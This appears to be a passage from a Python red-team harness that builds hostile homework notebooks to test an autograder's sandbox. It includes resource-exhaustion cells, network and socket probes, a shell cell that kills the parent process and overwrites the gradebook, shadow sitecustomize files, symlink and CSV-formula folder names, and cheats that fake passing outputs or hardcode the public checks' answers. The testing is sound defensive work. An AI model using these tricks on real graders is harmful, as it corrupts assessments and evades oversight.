              stdin=_sp.DEVNULL, stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)
    _ev("hopper", "started")
except Exception as _e:
    _ev("hopper", repr(_e))
""",
    ),
    Attack(
        "fork_many",
        "forks sleeping children until the system refuses (bounded at 400)",
        early="""
import subprocess as _sp
_kids = 0
for _ in range(400):
    try:
        _sp.Popen([_s.executable, "-c", "import time; time.sleep(150)", "__TOKEN__"],
                  start_new_session=True, stdin=_sp.DEVNULL, stdout=_sp.DEVNULL,
                  stderr=_sp.DEVNULL)
        _kids += 1
    except Exception:
        break
_ev("children", _kids)
""",
    ),
    Attack(
        "print_flood",
        "prints 1 GB through IPython's stdout, then 200 MB straight to file descriptors 1 and 2",
        early="""
_chunk = "x" * (1 << 20)
for _ in range(1024):
    print(_chunk)
_raw = b"y" * (1 << 20)
for _ in range(100):
    _o.write(1, _raw)
    _o.write(2, _raw)
""",
    ),
    Attack(
        "memory_hog",
        # Filling the blocks took 14-32 s for 3-3.75 GB in a kernel on a VM whose memory was
        # not yet backed by the host (0.7 s once warm; transparent huge pages make even one
        # write per 512 KB zero all of it), past the 20 s cell limit, so the attack sometimes
        # left no evidence. The address-space limit (RLIMIT_AS) is what stops it: without it,
        # all 48 blocks (12 GB) are granted, written or not.
        "allocates up to 12 GB in 256 MB blocks, writing into each",
        early="""
import numpy as _np
_blocks = []
try:
    for _ in range(48):
        _b = _np.empty(1 << 25)
        _b[0] = _b[-1] = 1.0  # real memory at both ends, not all of it faulted in
        _blocks.append(_b)
except MemoryError:
    pass
_ev("gb", len(_blocks) / 4)
del _blocks
""",
    ),
    Attack(
        "disk_hog",
        "writes a 600 MB file in its folder (over the file-size limit)",
        early="""
with open("big.bin", "wb") as _fh:
    for _ in range(600):
        _fh.write(b"z" * (1 << 20))
""",
    ),
    Attack(
        "network",
        "TCP to 127.0.0.1 and outside hosts, DNS, UDP, and every unix socket under /run",
        early="""
import glob as _gl
import socket as _so

_ok = []
for _host, _port in (("127.0.0.1", 22), ("127.0.0.1", 80), ("127.0.0.1", 8888),
                     ("1.1.1.1", 443), ("8.8.8.8", 53)):
    try:
        _so.create_connection((_host, _port), timeout=1.0).close()
        _ok.append(f"{_host}:{_port}")
    except Exception:
        pass
try:
    _so.getaddrinfo("pypi.org", 443)
    _ok.append("dns")
except Exception:
    pass
for _path in _gl.glob("/run/**/*.sock", recursive=True) + _gl.glob("/var/run/*.sock"):
    try:
        _u = _so.socket(_so.AF_UNIX)
        _u.settimeout(1.0)
        _u.connect(_path)
        _u.close()
        _ok.append(_o.path.basename(_path))
    except Exception:
        pass
_ev("net", ",".join(_ok) or "none")
_ev("ifaces", len(_so.if_nameindex()))
""",
    ),
    Attack(
        "shell_magics",
        "! and %%bash cells: kill the parent, write the outputs from a shell",
        early="!kill -9 $PPID; echo hacked > __OUT__/gradebook.csv\n",
        late="%%bash\nkill -9 $PPID\necho hacked > __OUT__/gradebook.csv\n",
    ),
]


# ------------------------------------------------------------------------------------------
# The submission itself
# ------------------------------------------------------------------------------------------


def _stored_outputs(base: Base):
    """The exercise's code with the solution's stored outputs (checks shown as passing)."""
    nb = copy.deepcopy(base.exercise)
    by_id = {c.get("id"): c for c in base.solution.cells}
    for k, cell in enumerate(nb.cells):
        sol = by_id.get(cell.get("id")) or base.solution.cells[k]
        if cell.cell_type == "code":
            cell.outputs = copy.deepcopy(sol.get("outputs", []))
            cell.execution_count = sol.get("execution_count")
    return nb


def public_answers_source() -> str:
    """Functions that answer the public checks' fixed inputs from a table, and nothing else.

    The table is computed here with the course's reference (as a student would copy the
    answers the checks print, or compute them at home); any other input gets zeros.
    """
    from course_lib.grading.common import encode

    def recorded(check) -> list[tuple]:
        seen = []

        def spy(*args):
            seen.append(args)
            raise NotImplementedError

        with contextlib.redirect_stdout(io.StringIO()):
            check(spy)
        return seen

    table = [
        [float(np.sum(a[0])), encode(cells.lstm_step(*a))]
        for a in recorded(hw05_lstm.check_lstm_step)
    ]
    init = {}
    for n_in, n_h, *seed in recorded(hw05_lstm.check_init_lstm_params):
        seed = seed[0] if seed else 0
        rng = np.random.default_rng(seed)
        p = {}
        for k in "fiog":
            p[f"Wx_{k}"] = rng.normal(0, 0.1, (n_in, n_h)).tolist()
            p[f"Wh_{k}"] = rng.normal(0, 0.1, (n_h, n_h)).tolist()
            p[f"b_{k}"] = [1.0 if k == "f" else 0.0] * n_h
        init[f"{n_in},{n_h},{seed}"] = p
    memory = {
        f"{float(b)},{int(t)}": hw05_lstm.simulated_memory(b, t)
        for b, t in recorded(hw05_lstm.check_memory_left)
    }
    half = {
        str(float(b)): hw05_lstm.reference_half_life(b)
        for (b,) in recorded(hw05_lstm.check_half_life)
    }
    return f"""
import numpy as _np
from course_lib.grading.common import decode as _dec

_LSTM = {json.dumps(table)}
_INIT = {json.dumps(init)}
_MEM = {json.dumps(memory)}
_HALF = {json.dumps(half)}


def lstm_step(x_t, h_prev, c_prev, params):
    for key, answer in _LSTM:
        if abs(float(_np.sum(x_t)) - key) < 1e-9:
            return tuple(_dec(answer)[:2]) + (_dec(answer)[2],)
    z = _np.zeros(_np.shape(h_prev))
    return z, z, {{k: z for k in "fiog"}}


def init_lstm_params(n_in, n_h, seed=0):
    p = _INIT.get(f"{{n_in}},{{n_h}},{{seed}}")
    if p is None:
        return {{}}
    return {{k: _np.array(v) for k, v in p.items()}}


def memory_left(b_f, T):
    return _MEM.get(f"{{float(b_f)}},{{int(T)}}", 0.0)


def half_life(b_f):
    return _HALF.get(str(float(b_f)), 0.0)
"""


SUBMISSION = [
    Attack(
        "stored_outputs",
        "the exercise's code with the solution's stored outputs (all checks shown passing)",
        notebook=_stored_outputs,
    ),
    Attack(
        "hardcoded_public",
        "every function answers the public checks' fixed inputs from a table, zeros otherwise",
        notebook=lambda base: base.with_cell_after_defs(public_answers_source()),
    ),
    Attack("not_json", "the notebook file is not JSON", notebook=lambda base: b"{ not json"),
    Attack(
        "not_a_notebook",
        "valid JSON that is not a notebook",
        notebook=lambda base: json.dumps({"cells": 5, "nbformat": 99}).encode(),
    ),
    Attack(
        "evil_kernelspec",
        "metadata asks for another kernel (bash) and a kernel that does not exist",
        notebook=lambda base: base.with_metadata(
            {
                "kernelspec": {"name": "bash", "display_name": "Bash", "language": "bash"},
                "language_info": {"name": "bash"},
            }
        ),
    ),
    Attack(
        "shadow_files",
        "extra files beside the notebook: ipykernel_launcher.py, sitecustomize.py, "
        "course_lib/ (run if the grader copied them and started python in that folder)",
        files={
            name: (
                "import os\n"
                "if os.geteuid() == 0:\n"
                "    open(os.path.join(__CANARY__, 'root-ran-' + __NAME__), 'w').close()\n"
                "open('shadow-ran-' + __NAME__, 'w').close()\n"
            )
            for name in (
                "ipykernel_launcher.py",
                "sitecustomize.py",
                "usercustomize.py",
                "course_lib/__init__.py",
                "course_lib/grading/__init__.py",
                "course_lib/grading/sandbox.py",
            )
        },
    ),
    Attack(
        "symlink_other",
        "the notebook is a symbolic link to another student's notebook",
        notebook=lambda base: ("symlink", "../{HONEST}/hw05_lstm.ipynb"),
    ),
    Attack(
        "name_gradebook",
        "a student folder named gradebook.csv",
        folder="gradebook.csv",
    ),
    Attack(
        "name_hijack",
        "a folder whose safe name is an honest student's and sorts before it (' {HONEST}')",
        folder=" {HONEST}",
    ),
    Attack(
        "name_csv",
        "a folder name with a comma, quote and spreadsheet formula",
        folder='=HYPERLINK("x"),10,"a',
    ),
]

ATTACKS: list[Attack] = REFERENCE + PATCHING + WRITING + PROCESS + SUBMISSION


# ------------------------------------------------------------------------------------------
# Writing a batch
# ------------------------------------------------------------------------------------------


def _find_def(nb, name: str) -> int:
    for k, cell in enumerate(nb.cells):
        if cell.cell_type == "code" and f"def {name}(" in cell.source:
            return k
    raise LookupError(f"no code cell defines {name}() in the notebook")


@dataclass
class Base:
    """The notebooks an attack is built from, and the placeholders' values."""

    exercise: nbformat.NotebookNode
    solution: nbformat.NotebookNode
    values: dict[str, str]

    def fill(self, source: str, name: str) -> str:
        for key, value in {**self.values, "__NAME__": repr(name)}.items():
            source = source.replace(key, value)
        return source

    def with_cell_after_defs(self, source: str):
        nb = copy.deepcopy(self.exercise)
        last = max(_find_def(nb, f) for f in hw05_lstm.ASSIGNMENT.functions())
        nb.cells.insert(last + 1, nbformat.v4.new_code_cell(source))
        return _renumber(nb)

    def with_metadata(self, meta: dict):
        nb = copy.deepcopy(self.exercise)
        nb.metadata.update(meta)
        return nb


def _renumber(nb):
    for k, cell in enumerate(nb.cells):
        cell["id"] = f"cell-{k}"
    return nb


def build_notebook(attack: Attack, base: Base):
    """The attack's notebook (a NotebookNode), raw bytes, or ("symlink", target)."""
    if attack.notebook is not None:
        return attack.notebook(base)
    nb = copy.deepcopy(base.exercise)
    helpers = base.fill(HELPERS, attack.name)
    k = _find_def(nb, "lstm_step")
    nb.cells[k].source += "\n\n" + helpers + "\n" + base.fill(attack.lstm, attack.name)
    k = _find_def(nb, "half_life")
    nb.cells[k].source += "\n" + EVIDENCE
    if attack.needs_helpers_src:
        nb.cells[_find_def(nb, "lstm_step")].source = (
            f"HELPERS_SRC = {helpers!r}\n" + nb.cells[_find_def(nb, "lstm_step")].source
        )
    if attack.early:
        # after the first code cell (the imports), but helpers must exist: put them first
        first = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
        src = base.fill(attack.early, attack.name)
        if attack.needs_helpers_src:
            src = f"HELPERS_SRC = {helpers!r}\n" + src
        nb.cells.insert(first + 1, nbformat.v4.new_code_cell(helpers + "\n" + src))
    if attack.late:
        nb.cells.append(nbformat.v4.new_code_cell(base.fill(attack.late, attack.name)))
    return _renumber(nb)


def write_submission(folder: str, content, files: dict[str, bytes] | None = None) -> None:
    """Write one student's folder: the notebook (or bytes, or a link) and extra files."""
    os.makedirs(folder, exist_ok=True)
    path = os.path.join(folder, "hw05_lstm.ipynb")
    if isinstance(content, tuple) and content[0] == "symlink":
        os.symlink(content[1], path)
    elif isinstance(content, bytes):
        with open(path, "wb") as fh:
            fh.write(content)
    else:
        nbformat.write(content, path)
    for name, data in (files or {}).items():
        target = os.path.join(folder, name)
        os.makedirs(os.path.dirname(target), exist_ok=True)
        with open(target, "wb") as fh:
            fh.write(data if isinstance(data, bytes) else data.encode())
